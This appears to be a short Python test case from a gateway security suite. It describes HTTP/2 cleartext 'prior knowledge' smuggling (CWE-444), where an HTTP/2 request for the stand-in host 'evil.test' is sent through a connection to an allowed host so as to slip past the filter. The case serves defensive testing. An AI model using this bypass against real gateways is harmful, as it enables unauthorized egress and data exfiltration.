"""HTTP/2 without an upgrade: the preface straight away.

A client that knows the server speaks HTTP/2 begins with it. To a reader of HTTP/1.1 the preface
is a request of the method PRI; what follows is binary, with its own authority in each request.

Not covered: HTTP/2 inside TLS.
"""

ATTACK = {
    "title": "HTTP/2 in clear text by prior knowledge",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-444", "RFC 9113 section 3.3"],
    "arrives": [{"what": "request", "text": "PRI * HTTP/2.0"}],
    "stopped": [{"reason": ["malformed-request"], "entry": ["transparent"]}],
}


def attempt(kit):
    import wire

    kit.talk("allowed.test", 80, wire.text(wire.h2_request("evil.test")), patience=0.2)
